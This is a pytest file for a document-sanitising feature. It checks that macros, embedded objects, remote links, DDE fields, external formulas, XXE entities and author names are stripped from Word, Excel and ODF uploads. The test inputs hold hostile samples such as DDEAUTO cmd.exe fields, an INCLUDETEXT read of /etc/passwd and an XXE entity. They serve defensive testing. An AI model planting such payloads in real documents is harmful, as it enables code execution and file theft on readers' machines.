"""Office files: what acts, reaches out or names people is gone, and what is left still opens."""

import io

import docx
import openpyxl
import pytest
from lxml import etree

from frankpledge.documents.content import plain_text
from frankpledge.documents.converting import convert
from frankpledge.shared.uploads.kinds import NotTaken
from frankpledge.shared.uploads.odf import clean_odf
from frankpledge.shared.uploads.ooxml import clean_ooxml
from tests.documents.samples import file
from tests.support.harmful import (
    W,
    archive,
    excel,
    in_body,
    parts_of,
    related,
    replaced,
    with_macros,
    with_parts,
    word,
)

pytestmark = pytest.mark.once("no database is opened")
BODY = "word/document.xml"
CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"


def opened(data: bytes) -> str:
    """Everything a cleaned Word file says, read by two programs."""
    assert convert(data, ".docx").blocks
    return "\n".join(one.text for one in docx.Document(io.BytesIO(data)).paragraphs)


def everything(data: bytes) -> bytes:
    return b"\n".join(name.encode() + b"\n" + part for name, part in parts_of(data).items())


@pytest.mark.parametrize("name", ["survey-paper.docx", "form-version-1.docx"])
def test_a_good_word_file_says_the_same_afterwards(name):
    before = file(name)
    after = clean_ooxml(before)
    assert convert(after, ".docx") == convert(before, ".docx")
    assert clean_ooxml(after) == after
    assert set(parts_of(after)) <= set(parts_of(before))


def test_a_good_odf_file_says_the_same_afterwards():
    before = file("action-log.odt")
    after = clean_odf(before)
    assert convert(after, ".odt") == convert(before, ".odt")
    assert clean_odf(after) == after
    assert after[30:38] == b"mimetype"


def test_a_good_workbook_keeps_its_figures_and_formulas():
    book = openpyxl.load_workbook(io.BytesIO(clean_ooxml(excel())))
    assert [[cell.value for cell in row] for row in book.active.iter_rows(min_row=2)] == [
        ["Visits", 2],
        ["Calls", 3],
        ["Total", "=SUM(B2:B3)"],
    ]


def test_macros_go():
    data = clean_ooxml(with_macros(excel(), "xl/workbook.xml"))
    assert b"vba" not in everything(data).lower()
    assert openpyxl.load_workbook(io.BytesIO(data)).active["B2"].value == 2


def test_what_lies_in_the_file_without_being_named_goes():
    data = clean_ooxml(with_parts(word(), word__hidden_0bin=b"MZ hidden", evil_0exe=b"MZ"))
    assert b"hidden" not in everything(data)


def test_a_template_elsewhere_is_not_fetched():
    data = related(
        word(), "word/settings.xml", "attachedTemplate", "http://192.0.2.1/t.dotm", outside=True
    )
    data = replaced(
        data,
        "word/settings.xml",
        "</w:settings>",
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rIdX"/></w:settings>',
    )
    clean = clean_ooxml(data)
    assert b"192.0.2.1" not in everything(clean)
    assert b"attachedTemplate" not in everything(clean)
    assert "The board met." in opened(clean)


OLE = (
    '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdX"/></w:object></w:r>'
    "<w:r><w:t>After</w:t></w:r></w:p>"
)
PICTURE = (
    '<w:p><w:r><w:pict><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'r:link="rIdX"/></w:pict></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("kind", "target", "outside", "markup"),
    [
        ("oleObject", "embeddings/oleObject1.bin", False, OLE),
        ("oleObject", "file:/\\\\192.0.2.1\\x.xlsx", True, OLE),
        ("image", "http://192.0.2.1/seen.png", True, PICTURE),
        ("hyperlink", "file:/192.0.2.1/x", True, '<w:p><w:hyperlink r:id="rIdX"/></w:p>'),
        ("aFChunk", "chunk.html", False, '<w:altChunk r:id="rIdX"/>'),
        ("frame", "http://192.0.2.1/", True, "<w:p/>"),
        ("subDocument", "http://192.0.2.1/", True, '<w:p><w:subDoc r:id="rIdX"/></w:p>'),
    ],
)
def test_objects_and_links_to_elsewhere_go_and_the_words_stay(kind, target, outside, markup):
    data = in_body(word(), markup)
    data = with_parts(
        data, word__embeddings__oleObject1_0bin=b"\xd0\xcf\x11\xe0MZ", word__chunk_0html=b"<html>"
    )
    clean = clean_ooxml(related(data, BODY, kind, target, outside=outside))
    assert not [word for word in (b"192.0.2.1", b"rIdX", b"chunk") if word in everything(clean)]
    assert "embeddings" not in "".join(parts_of(clean))
    said = opened(clean)
    assert "The board met." in said
    assert markup is not OLE or "After" in said


def test_a_link_to_the_web_stays():
    markup = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>guide</w:t></w:r></w:hyperlink></w:p>'
    data = related(
        in_body(word(), markup), BODY, "hyperlink", "https://example.org/g", outside=True
    )
    assert "https://example.org/g" in repr(convert(clean_ooxml(data), ".docx").blocks)


def test_the_words_of_a_link_that_goes_are_still_read():
    """A link without an address is one whose words pandoc passes over."""
    markup = (
        '<w:p><w:r><w:t xml:space="preserve">See </w:t></w:r><w:hyperlink r:id="rIdX"><w:r>'
        "<w:t>the old plan</w:t></w:r></w:hyperlink><w:r><w:t>, and say.</w:t></w:r></w:p>"
    )
    data = related(in_body(word(), markup), BODY, "hyperlink", "file:/C:/plan.docx", outside=True)
    blocks = convert(clean_ooxml(data), ".docx").blocks
    assert plain_text(blocks).splitlines()[-1] == "See the old plan, and say."


def field(*instructions: str, result: str = "what it came to") -> str:
    def run(inside: str) -> str:
        return f"<w:r>{inside}</w:r>"

    def mark(kind: str) -> str:
        return run(f'<w:fldChar w:fldCharType="{kind}"/>')

    said = "".join(run(f"<w:instrText>{one}</w:instrText>") for one in instructions)
    return (
        f"<w:p>{mark('begin')}{said}{mark('separate')}{run(f'<w:t>{result}</w:t>')}"
        f"{mark('end')}</w:p>"
    )


@pytest.mark.parametrize(
    "instructions",
    [
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ',),
        (" DDE", "AUTO cmd calc"),
        (' INCLUDEPICTURE "http://192.0.2.1/x" \\d ',),
        (' INCLUDETEXT "file:/etc/passwd" ',),
        (' LINK Excel.Sheet.8 "\\\\\\\\192.0.2.1\\\\x.xlsx" ',),
        (" MACROBUTTON AutoOpen press ",),
        (' HYPERLINK "file:/c:/x.exe" ',),
        ("  ",),
    ],
)
def test_a_field_that_reaches_out_becomes_what_it_last_came_to(instructions):
    clean = clean_ooxml(in_body(word(), field(*instructions)))
    assert b"instrText" not in parts_of(clean)[BODY]
    assert b"fldChar" not in parts_of(clean)[BODY]
    assert "what it came to" in opened(clean)


@pytest.mark.parametrize(
    "instruction", [" PAGE ", " TOC \\o ", ' HYPERLINK "https://example.org" ', " =SUM(ABOVE) "]
)
def test_a_field_that_only_counts_stays(instruction):
    clean = clean_ooxml(in_body(word(), field(instruction)))
    assert instruction.encode() in parts_of(clean)[BODY]


def test_a_simple_field_that_reaches_out_becomes_its_words():
    markup = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"><w:r><w:t>12</w:t></w:r></w:fldSimple></w:p>'
    clean = clean_ooxml(in_body(word(), markup))
    assert b"fldSimple" not in parts_of(clean)[BODY]
    assert "12" in opened(clean)


def test_names_of_people_go():
    data = in_body(
        word(), '<w:p><w:ins w:id="1" w:author="Nobody Known"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'
    )
    assert b"Nobody Known" not in everything(clean_ooxml(data))
    assert b"Nobody Known" not in everything(clean_ooxml(excel()))


def linked_workbook(formula: str) -> bytes:
    parts = parts_of(excel())
    sheet = etree.fromstring(parts["xl/worksheets/sheet1.xml"])
    cell = next(one for one in sheet.iter("{*}c") if one.get("r") == "B4")
    cell.find("{*}f").text = formula
    cell.find("{*}v").text = "5"
    parts["xl/worksheets/sheet1.xml"] = etree.tostring(sheet)
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    data = related(
        archive(parts), "xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml"
    )
    return replaced(
        data,
        "xl/workbook.xml",
        "<calcPr",
        '<externalReferences><externalReference xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships" r:id="rIdX"/></externalReferences><calcPr',
    )


@pytest.mark.parametrize(
    "formula",
    [
        *("[1]Sheet1!A1", "cmd|'/c calc'!A0", 'WEBSERVICE("http://192.0.2.1")', "DDE(1)"),
        *("[other.xlsx]Sheet1!A1", "'[other.xlsx]Sheet 1'!A1", "'C:\\x\\[o.xlsx]S'!A1"),
        "'file:/o.ods'#$S.A1",
    ],
)
def test_a_formula_that_reaches_out_becomes_its_figure(formula):
    clean = clean_ooxml(linked_workbook(formula))
    assert b"externalReference" not in everything(clean)
    assert b"externalLink1" not in everything(clean)
    assert openpyxl.load_workbook(io.BytesIO(clean)).active["B4"].value == 5


@pytest.mark.parametrize(
    "formula",
    ["SUM(B2:B3)", "SUM(Table1[Count])+Sheet2!A1", "Table1[[#All],[A b]]", "'My sheet'!A1"],
)
def test_a_formula_within_the_workbook_stays(formula):
    clean = clean_ooxml(linked_workbook(formula))
    assert openpyxl.load_workbook(io.BytesIO(clean)).active["B4"].value == f"={formula}"


def test_the_workbook_behind_a_chart_goes_and_the_chart_stays():
    chart = (
        f'<c:chartSpace xmlns:c="{CHART}" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"><c:externalData r:id="rIdX"/></c:chartSpace>'
    )
    data = with_parts(word(), word__charts__chart1_0xml=chart, word__embeddings__a_0xlsx=excel())
    data = related(data, BODY, "chart", "charts/chart1.xml", key="rIdC")
    data = related(data, "word/charts/chart1.xml", "package", "../embeddings/a.xlsx")
    clean = parts_of(clean_ooxml(data))
    assert "word/embeddings/a.xlsx" not in clean
    assert b"externalData" not in clean["word/charts/chart1.xml"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (related(excel(), "xl/workbook.xml", "connections", "c.xml"), "fetches data"),
        (related(excel(), "xl/workbook.xml", "xlMacrosheet", "m.xml"), "macros in Excel’s old"),
        (
            related(with_parts(word(), word__x_0bin=b"MZ"), BODY, "font", "x.bin"),
            "Another file stands inside",
        ),
        (
            related(in_body(word(), '<w:p r:id="rIdX"/>'), BODY, "oleObject", "x.bin"),
            "cannot be taken out without spoiling it",
        ),
        (replaced(word(), BODY, "<w:document", "<!DOCTYPE x><w:document"), "words of its own"),
        (replaced(word(), BODY, "</w:body>", ""), "damaged"),
        (archive({"[Content_Types].xml": "<Types/>"}), "damaged"),
        (archive({"a": "b"}), "damaged"),
    ],
)
def test_what_cannot_be_taken_out_is_refused_with_the_reason(data, says):
    with pytest.raises(NotTaken) as refused:
        clean_ooxml(data)
    assert says in str(refused.value)


def test_entities_neither_unfold_nor_fetch():
    for made in ('<!ENTITY a "ha">', '<!ENTITY a SYSTEM "file:/etc/hostname">'):
        body = f'<!DOCTYPE w [{made}]><w:document xmlns:w="{W}"><w:body>&a;</w:body></w:document>'
        with pytest.raises(NotTaken):
            clean_ooxml(with_parts(word(), word__document_0xml=body))
        with pytest.raises(NotTaken):
            clean_odf(with_parts(file("action-log.odt"), content_0xml=body))


ODF = "urn:oasis:names:tc:opendocument:xmlns"
REACHING = (
    f'<office:scripts xmlns:office="{ODF}:office:1.0"><x/></office:scripts>'
    f'<text:p xmlns:text="{ODF}:text:1.0" xmlns:draw="{ODF}:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xmlns:script="{ODF}:script:1.0" xmlns:office="{ODF}:office:1.0">Before '
    '<draw:frame><draw:image xlink:href="http://192.0.2.1/seen.png"/></draw:frame>'
    '<draw:object-ole xlink:href="./Object 9"/>'
    '<draw:floating-frame xlink:href="http://192.0.2.1/"/>'
    '<text:a xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic">press</text:a>'
    '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:x"/>'
    "</office:event-listeners> after</text:p>"
)


def test_of_an_odf_file_macros_objects_and_links_go_and_the_words_stay():
    data = with_parts(
        replaced(
            file("action-log.odt"), "content.xml", "</office:text>", f"{REACHING}</office:text>"
        ),
        Basic__Standard__Module1_0xml="<a/>",
        Scripts__python__a_0py=b"import os",
        META_INF__x=b"",
    )
    clean = clean_odf(archive({**parts_of(data), "Object 9": b"\xd0\xcf\x11\xe0"}))
    found = everything(clean)
    for gone in (b"192.0.2.1", b"sun.star", b"Basic/", b"Scripts", b"Object 9", b"event-listener"):
        assert gone not in found
    said = repr(convert(clean, ".odt").blocks)
    assert all(word in said for word in ("Before", "press", "after"))


def test_an_odf_file_that_is_locked_is_refused():
    data = replaced(
        file("action-log.odt"),
        "META-INF/manifest.xml",
        "</manifest:manifest>",
        "<manifest:encryption-data/></manifest:manifest>",
    )
    with pytest.raises(NotTaken, match="locked with a password"):
        clean_odf(data)
